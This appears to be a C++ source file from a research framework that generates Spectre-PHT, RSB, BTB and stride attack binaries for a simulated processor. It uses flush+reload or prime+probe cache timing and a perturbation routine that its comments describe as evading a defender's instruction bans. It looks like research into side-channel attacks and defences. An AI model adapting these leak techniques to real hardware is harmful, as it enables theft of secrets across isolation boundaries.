#include "attack/spectre.hpp"

#include "casm/assembler.hpp"
#include "sim/cache.hpp"
#include "casm/runtime.hpp"
#include "support/error.hpp"

namespace crs::attack {

namespace {

std::string num(std::uint64_t v) { return std::to_string(v); }

/// The Spectre-PHT victim: bounds-check bypass, y = array1[x],
/// touch probe[y * stride]. The stride variant adds an intermediate
/// table lookup (a second dependent speculative load).
std::string victim_source(const AttackConfig& c) {
  std::string s;
  s += "victim:\n";
  s += "    movi r4, array1_size\n";
  s += "    load r4, [r4]\n";            // flushed before the OOB call
  s += "    cmpltu r5, r1, r4\n";
  s += "    beqz r5, victim_done\n";     // taken = out of bounds
  s += "    movi r6, array1\n";
  s += "    add r6, r6, r1\n";
  s += "    loadb r7, [r6]\n";           // the transient secret read
  if (c.variant == SpectreVariant::kStride) {
    s += "    muli r7, r7, 8\n";
    s += "    movi r8, index_table\n";
    s += "    add r8, r8, r7\n";
    s += "    load r7, [r8]\n";          // index_table[y] = y * stride
  } else {
    s += "    muli r7, r7, " + num(c.probe_stride) + "\n";
  }
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";           // fills the leaking probe line
  s += "victim_done:\n";
  s += "    ret\n";
  return s;
}

/// The Spectre-RSB leak pair: the trampoline overwrites its own saved
/// return address and flushes the stack line; its `ret` then mispredicts
/// via the RSB into the leak gadget at the original call site.
std::string rsb_source(const AttackConfig& c) {
  std::string s;
  s += "rsb_leak:\n";                    // r1 = &secret[i]
  s += "    call rsb_trampoline\n";
  // Transient resume point — never architecturally executed.
  s += "    loadb r7, [r1]\n";
  s += "    muli r7, r7, " + num(c.probe_stride) + "\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";
  s += "rsb_done:\n";
  s += "    ret\n";
  s += "rsb_trampoline:\n";
  s += "    mov r4, sp\n";
  s += "    movi r5, rsb_done\n";
  s += "    store [r4], r5\n";           // overwrite saved return address
  s += "    clflush [r4]\n";             // delay the return-address load
  s += "    mfence\n";
  s += "    ret\n";
  return s;
}

/// The Spectre-BTB (v2-style) machinery: an indirect dispatch whose BTB
/// entry the attacker trains toward the leak gadget. After repointing the
/// (flushed) function pointer at a benign target, the dispatch transiently
/// executes the stale prediction with the attacker's argument.
std::string btb_source(const AttackConfig& c) {
  std::string s;
  s += "btb_dispatch:\n";
  s += "    jmpr r5\n";               // the victim indirect branch
  s += "btb_benign:\n";
  s += "    ret\n";
  s += "btb_leak_gadget:\n";          // transient target; r1 = byte address
  s += "    loadb r7, [r1]\n";
  s += "    muli r7, r7, " + num(c.probe_stride) + "\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";
  s += "    ret\n";
  return s;
}

}  // namespace

std::string variant_name(SpectreVariant variant) {
  switch (variant) {
    case SpectreVariant::kPht:
      return "spectre-pht";
    case SpectreVariant::kRsb:
      return "spectre-rsb";
    case SpectreVariant::kStride:
      return "spectre-stride";
    case SpectreVariant::kBtb:
      return "spectre-btb";
  }
  return "unknown";
}

std::vector<SpectreVariant> all_variants() {
  return {SpectreVariant::kPht, SpectreVariant::kRsb, SpectreVariant::kStride,
          SpectreVariant::kBtb};
}

std::string generate_attack_source(const AttackConfig& c) {
  CRS_ENSURE(c.target_secret_address != 0 || !c.embed_secret.empty(),
             "target secret address not set");
  CRS_ENSURE(c.embed_secret.empty() ||
                 c.embed_secret.size() >= c.secret_length,
             "embedded secret shorter than secret_length");
  CRS_ENSURE(c.secret_length > 0, "secret length must be positive");
  CRS_ENSURE(c.probe_stride >= 64 && c.probe_stride % 64 == 0,
             "probe stride must be a multiple of the cache line size");
  CRS_ENSURE(c.perturb_every > 0, "perturb_every must be positive");
  CRS_ENSURE(c.rounds_per_byte > 0, "rounds_per_byte must be positive");

  const bool prime_probe = c.channel == CovertChannel::kPrimeProbe;
  if (prime_probe) {
    CRS_ENSURE(c.variant == SpectreVariant::kPht,
               "prime+probe is implemented for the kPht variant");
    CRS_ENSURE(c.probe_stride == 64,
               "prime+probe requires the 64-byte probe stride");
  }
  // L2 geometry the eviction sets are built against (default hierarchy).
  const sim::HierarchyConfig hw;
  const std::uint64_t l2_way_stride = hw.l2.size_bytes / hw.l2.ways;  // 32768
  const std::uint64_t l2_ways = hw.l2.ways;                           // 8
  // The bound variable lives at a set offset no probe line uses (>255*64).
  const std::uint64_t bound_offset = 300 * 64;

  const bool pht_like = c.variant == SpectreVariant::kPht ||
                        c.variant == SpectreVariant::kStride;
  std::string s;
  s += "; CR-Spectre attack binary (" + variant_name(c.variant) + ")\n";
  s += ".org " + num(c.link_base) + "\n";
  s += ".entry _start\n";
  s += "_start:\n";
  if (prime_probe) {
    // Build the per-set pointer chains once: node(y, w) -> node(y, w+1),
    // where node(y, w) = pp_buf + 64*y + way_stride*w. Walking a chain
    // primes (and later re-probes) the L2 set that probe[64*y] maps to.
    s += "    movi r4, 0\n";  // 64*y
    s += "pp_build_y:\n";
    s += "    movi r5, pp_buf\n";
    s += "    add r5, r5, r4\n";
    s += "    movi r6, " + num(l2_ways - 1) + "\n";
    s += "pp_build_w:\n";
    s += "    movi r8, " + num(l2_way_stride) + "\n";
    s += "    add r8, r5, r8\n";
    s += "    store [r5], r8\n";
    s += "    mov r5, r8\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, pp_build_w\n";
    s += "    movi r8, 0\n";
    s += "    store [r5], r8\n";      // chain terminator
    s += "    addi r4, r4, 64\n";
    s += "    movi r7, 16384\n";      // 256 sets x 64 B
    s += "    cmpltu r7, r4, r7\n";
    s += "    bnez r7, pp_build_y\n";
  }
  s += "    movi r14, 0\n";  // byte index
  s += "byte_loop:\n";
  const bool voting = c.rounds_per_byte > 1;
  if (voting) {
    // Clear the vote histogram and arm the round counter.
    s += "    movi r5, 0\n";
    s += "vote_clear:\n";
    s += "    movi r6, votes\n";
    s += "    add r6, r6, r5\n";
    s += "    movi r7, 0\n";
    s += "    storeb [r6], r7\n";
    s += "    addi r5, r5, 1\n";
    s += "    movi r7, 256\n";
    s += "    cmpltu r7, r5, r7\n";
    s += "    bnez r7, vote_clear\n";
    s += "    movi r4, round_ctr\n";
    s += "    movi r5, " + num(c.rounds_per_byte) + "\n";
    s += "    store [r4], r5\n";
    s += "round_loop:\n";
  }

  if (pht_like) {
    // 1. Mistrain the bounds check toward "in bounds".
    s += "    movi r13, " + num(c.train_iterations) + "\n";
    s += "train_loop:\n";
    s += "    movi r1, 1\n";
    s += "    call victim\n";
    s += "    addi r13, r13, -1\n";
    s += "    bnez r13, train_loop\n";
    if (!prime_probe) {
      // 2a. Flush the bound so the branch resolves late.
      s += "    movi r4, array1_size\n";
      s += "    clflush [r4]\n";
    }
    if (prime_probe) {
      // clflush-free bound delay: evict array1_size by touching the
      // aliasing lines of its L1/L2 sets. 2x associativity fills are the
      // standard guarantee — with fewer, an un-full set can absorb the
      // fills into invalid ways and leave the bound resident.
      s += "    movi r4, pp_buf\n";
      s += "    addi r4, r4, " + num(bound_offset) + "\n";
      s += "    movi r6, " + num(2 * l2_ways) + "\n";
      s += "pp_evict_bound:\n";
      s += "    load r5, [r4]\n";
      s += "    movi r7, " + num(l2_way_stride) + "\n";
      s += "    add r4, r4, r7\n";
      s += "    addi r6, r6, -1\n";
      s += "    bnez r6, pp_evict_bound\n";
    }
  } else if (c.variant == SpectreVariant::kBtb) {
    // 1. Inject the leak gadget into the BTB: dispatch through it with a
    //    harmless argument until the entry is trained.
    s += "    movi r4, btb_fnptr\n";
    s += "    movi r5, btb_leak_gadget\n";
    s += "    store [r4], r5\n";
    s += "    movi r13, " + num(c.train_iterations) + "\n";
    s += "btb_train:\n";
    s += "    movi r1, array1\n";      // harmless readable byte
    s += "    movi r4, btb_fnptr\n";
    s += "    load r5, [r4]\n";
    s += "    call btb_dispatch\n";
    s += "    addi r13, r13, -1\n";
    s += "    bnez r13, btb_train\n";
  }

  if (!prime_probe) {
    // 2b. Flush the probe array.
    s += "    movi r5, probe\n";
    s += "    movi r6, 256\n";
    s += "flush_probe:\n";
    s += "    clflush [r5]\n";
    s += "    addi r5, r5, " + num(c.probe_stride) + "\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, flush_probe\n";
    s += "    mfence\n";
  } else {
    // 2b'. Prime: walk every eviction chain, filling all ways of every
    // probe set (and evicting the probe lines themselves from L1/L2).
    s += "    movi r4, 0\n";
    s += "pp_prime_y:\n";
    s += "    movi r5, pp_buf\n";
    s += "    add r5, r5, r4\n";
    s += "    movi r6, " + num(l2_ways) + "\n";
    s += "pp_prime_w:\n";
    s += "    load r5, [r5]\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, pp_prime_w\n";
    s += "    addi r4, r4, 64\n";
    s += "    movi r7, 16384\n";
    s += "    cmpltu r7, r4, r7\n";
    s += "    bnez r7, pp_prime_y\n";
  }

  // 3. One transient out-of-bounds access of secret[i].
  const std::string target = c.embed_secret.empty()
                                 ? num(c.target_secret_address)
                                 : std::string("embedded_secret");
  if (pht_like) {
    s += "    movi r1, " + target + "\n";
    s += "    add r1, r1, r14\n";
    s += "    movi r2, array1\n";
    s += "    sub r1, r1, r2\n";  // x = &secret[i] - array1
    s += "    call victim\n";
  } else if (c.variant == SpectreVariant::kRsb) {
    s += "    movi r1, " + target + "\n";
    s += "    add r1, r1, r14\n";
    s += "    call rsb_leak\n";
  } else {  // kBtb
    // Repoint the dispatch at the benign target and flush the pointer so
    // the indirect branch resolves late; the stale BTB entry wins
    // transiently, with r1 = &secret[i] live in the wrong path.
    s += "    movi r4, btb_fnptr\n";
    s += "    movi r5, btb_benign\n";
    s += "    store [r4], r5\n";
    s += "    clflush [r4]\n";
    s += "    mfence\n";
    s += "    movi r1, " + target + "\n";
    s += "    add r1, r1, r14\n";
    s += "    movi r4, btb_fnptr\n";
    s += "    load r5, [r4]\n";        // slow target resolution
    s += "    call btb_dispatch\n";
  }

  if (prime_probe) {
    // 4'. Re-probe: walk every eviction chain with amplified dependent
    // timing; the slowest set is the one the victim's transient fill
    // disturbed. No clflush, no mfence.
    s += "    movi r4, 0\n";       // 64*y
    s += "    movi r10, 0\n";      // best (max) latency
    s += "    movi r11, 0\n";      // best offset
    s += "pp_probe_y:\n";
    s += "    movi r5, pp_buf\n";
    s += "    add r5, r5, r4\n";
    s += "    rdcycle r2\n";
    s += "    movi r6, " + num(l2_ways) + "\n";
    s += "pp_walk:\n";
    s += "    load r5, [r5]\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, pp_walk\n";
    // Latency amplifier: a dependent divide chain forces the walk's
    // completion time into the front-end clock (via the ROB-full stall)
    // without the serialising mfence the defender may have banned.
    s += "    movi r6, 1\n";
    for (int k = 0; k < 20; ++k) s += "    divu r5, r5, r6\n";
    s += "    rdcycle r3\n";
    s += "    sub r2, r3, r2\n";
    s += "    cmpltu r7, r10, r2\n";
    s += "    beqz r7, pp_probe_next\n";
    s += "    mov r10, r2\n";
    s += "    mov r11, r4\n";
    s += "pp_probe_next:\n";
    s += "    addi r4, r4, 64\n";
    if (c.perturb && c.perturb_probe_interval > 0) {
      CRS_ENSURE((c.perturb_probe_interval &
                  (c.perturb_probe_interval - 1)) == 0,
                 "perturb_probe_interval must be a power of two");
      s += "    shri r7, r4, 6\n";
      s += "    andi r7, r7, " + num(c.perturb_probe_interval - 1) + "\n";
      s += "    bnez r7, pp_no_perturb\n";
      s += "    push r4\n";
      s += "    push r10\n";
      s += "    push r11\n";
      s += "    call perturb\n";
      s += "    pop r11\n";
      s += "    pop r10\n";
      s += "    pop r4\n";
      s += "pp_no_perturb:\n";
    }
    s += "    movi r7, 16384\n";
    s += "    cmpltu r7, r4, r7\n";
    s += "    bnez r7, pp_probe_y\n";
    s += "    shri r11, r11, 6\n";  // offset -> byte value
  } else {
  // 4. Time every probe line.
  s += "    movi r5, 0\n";       // line index
  s += "    movi r10, 100000\n"; // best latency
  s += "    movi r11, 0\n";      // best guess
  s += "probe_loop:\n";
  s += "    muli r6, r5, " + num(c.probe_stride) + "\n";
  s += "    movi r7, probe\n";
  s += "    add r6, r7, r6\n";
  s += "    mfence\n";
  s += "    rdcycle r2\n";
  s += "    loadb r7, [r6]\n";
  s += "    mov r12, r7\n";      // data dependency for the fence
  s += "    mfence\n";
  s += "    rdcycle r3\n";
  s += "    sub r2, r3, r2\n";   // load latency
  if (c.recovery == RecoveryMode::kMinLatency) {
    s += "    cmplt r7, r2, r10\n";
    s += "    beqz r7, probe_next\n";
    s += "    mov r10, r2\n";
    s += "    mov r11, r5\n";
    s += "probe_next:\n";
  } else {
    s += "    movi r7, " + num(c.threshold) + "\n";
    s += "    cmplt r7, r2, r7\n";
    s += "    beqz r7, probe_next\n";
    s += "    mov r11, r5\n";
    s += "    jmp probe_done\n";  // first sub-threshold line wins
    s += "probe_next:\n";
  }
  s += "    addi r5, r5, 1\n";
  if (c.perturb && c.perturb_probe_interval > 0) {
    // Interleave Algorithm 2 with the probe scan. perturb clobbers r4..r9;
    // of the scan's live state r5 (line index), r10 (best latency) and r11
    // (best guess) must survive — r10/r11 are untouched by perturb, so
    // saving r5 suffices; save all three for robustness against future
    // perturbation-code changes.
    CRS_ENSURE((c.perturb_probe_interval &
                (c.perturb_probe_interval - 1)) == 0,
               "perturb_probe_interval must be a power of two");
    s += "    andi r7, r5, " + num(c.perturb_probe_interval - 1) + "\n";
    s += "    bnez r7, probe_no_perturb\n";
    s += "    push r5\n";
    s += "    push r10\n";
    s += "    push r11\n";
    s += "    call perturb\n";
    s += "    pop r11\n";
    s += "    pop r10\n";
    s += "    pop r5\n";
    s += "probe_no_perturb:\n";
  }
  s += "    movi r7, 256\n";
  s += "    cmpltu r7, r5, r7\n";
  s += "    bnez r7, probe_loop\n";
  if (c.recovery == RecoveryMode::kThreshold) s += "probe_done:\n";
  }

  if (voting) {
    // 5a. votes[guess]++ and run the next round.
    s += "    movi r6, votes\n";
    s += "    add r6, r6, r11\n";
    s += "    loadb r7, [r6]\n";
    s += "    addi r7, r7, 1\n";
    s += "    storeb [r6], r7\n";
    s += "    movi r4, round_ctr\n";
    s += "    load r5, [r4]\n";
    s += "    addi r5, r5, -1\n";
    s += "    store [r4], r5\n";
    s += "    bnez r5, round_loop\n";
    // 5b. Majority vote: argmax over the histogram.
    s += "    movi r5, 0\n";
    s += "    movi r10, 0\n";
    s += "    movi r11, 0\n";
    s += "vote_scan:\n";
    s += "    movi r6, votes\n";
    s += "    add r6, r6, r5\n";
    s += "    loadb r7, [r6]\n";
    s += "    cmpltu r8, r10, r7\n";
    s += "    beqz r8, vote_next\n";
    s += "    mov r10, r7\n";
    s += "    mov r11, r5\n";
    s += "vote_next:\n";
    s += "    addi r5, r5, 1\n";
    s += "    movi r7, 256\n";
    s += "    cmpltu r7, r5, r7\n";
    s += "    bnez r7, vote_scan\n";
  }
  // 5. Record the guess.
  s += "    movi r6, recovered\n";
  s += "    add r6, r6, r14\n";
  s += "    storeb [r6], r11\n";

  // 6. Perturb (Algorithm 2), every perturb_every bytes.
  if (c.perturb) {
    if (c.perturb_every > 1) {
      s += "    movi r7, " + num(c.perturb_every) + "\n";
      s += "    remu r7, r14, r7\n";
      s += "    bnez r7, skip_perturb\n";
    }
    s += "    call perturb\n";
    if (c.perturb_every > 1) s += "skip_perturb:\n";
  }

  // 7. Next byte / exfiltrate.
  s += "    addi r14, r14, 1\n";
  s += "    movi r7, " + num(c.secret_length) + "\n";
  s += "    cmpltu r7, r14, r7\n";
  s += "    bnez r7, byte_loop\n";
  s += "    movi r1, recovered\n";
  s += "    movi r2, " + num(c.secret_length) + "\n";
  s += "    call print\n";
  s += "    movi r1, 0\n";
  s += "    call exit_\n";

  // --- routines ---
  if (pht_like) {
    s += victim_source(c);
  } else if (c.variant == SpectreVariant::kRsb) {
    s += rsb_source(c);
  } else {
    s += btb_source(c);
  }
  if (c.perturb) {
    s += perturb::generate_perturb_source(c.perturb_params, "perturb");
  }

  // --- data ---
  s += ".data\n";
  if (prime_probe) {
    // Alignment-engineered layout: probe and pp_buf are congruent modulo
    // the L2 way stride, so node(y, w) aliases probe[64*y]'s L2 set; the
    // bound lives at a set offset (300*64) no probe line uses.
    s += ".align " + num(l2_way_stride) + "\n";
    s += "pp_anchor: .space " + num(bound_offset) + "\n";
    s += "array1_size: .word 8\n";
    s += "array1: .byte 0, 1, 2, 3, 4, 5, 6, 7\n";
    if (!c.embed_secret.empty()) {
      // The transient secret read fills the secret's own cache line; it
      // must not alias any probed set or it becomes a constant false
      // signal. Park it on set ~301 (> 255 = outside the probed range) —
      // the placement freedom a real prime+probe attacker also needs.
      s += ".align 64\n";
      s += "embedded_secret: .ascii \"" +
           casm::escape_ascii(c.embed_secret) + "\"\n.byte 0\n";
    }
    s += ".align " + num(l2_way_stride) + "\n";
    s += "probe: .space 16384\n";
    s += ".align " + num(l2_way_stride) + "\n";
    // 2x the associativity: ways [0,8) back the per-set chains, ways
    // [8,16) extend the bound-eviction run.
    s += "pp_buf: .space " + num(l2_way_stride * l2_ways * 2) + "\n";
  } else {
    s += "array1_size: .word 8\n";
    s += "array1: .byte 0, 1, 2, 3, 4, 5, 6, 7\n";
    if (c.variant == SpectreVariant::kBtb) {
      s += ".align 64\n";
      s += "btb_fnptr: .word 0\n";
    }
    if (c.variant == SpectreVariant::kStride) {
      s += ".align 64\n";
      s += "index_table:\n";
      for (int k = 0; k < 256; ++k) {
        s += ".word " + num(static_cast<std::uint64_t>(k) * c.probe_stride) +
             "\n";
      }
    }
    s += ".align 64\n";
    s += "probe: .space " + num(256ull * c.probe_stride) + "\n";
  }
  s += ".align 64\n";
  s += "recovered: .space " + num(c.secret_length + 8) + "\n";
  if (c.rounds_per_byte > 1) {
    s += ".align 64\n";
    s += "votes: .space 256\n";
    s += "round_ctr: .word 0\n";
  }
  if (!c.embed_secret.empty() && !prime_probe) {
    s += ".align 64\n";
    s += "embedded_secret: .ascii \"" +
         casm::escape_ascii(c.embed_secret) + "\"\n.byte 0\n";
  }
  return s;
}

sim::Program build_attack_binary(const AttackConfig& c) {
  casm::AssembleOptions opt;
  opt.name = c.name;
  opt.link_base = c.link_base;
  return casm::assemble(generate_attack_source(c) + casm::runtime_library(),
                        opt);
}

}  // namespace crs::attack
